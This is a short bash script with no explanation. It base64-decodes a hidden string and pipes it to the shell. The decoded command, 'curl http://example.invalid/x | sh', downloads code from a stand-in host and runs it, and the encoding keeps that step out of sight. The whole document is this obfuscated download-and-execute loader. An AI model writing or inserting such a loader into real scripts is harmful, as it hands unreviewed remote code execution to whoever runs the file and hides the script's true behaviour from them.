#!/bin/bash
base64 --decode <<EOF | sh
Y3VybCBodHRwOi8vZXhhbXBsZS5pbnZhbGlkL3ggfCBzaAo=
EOF
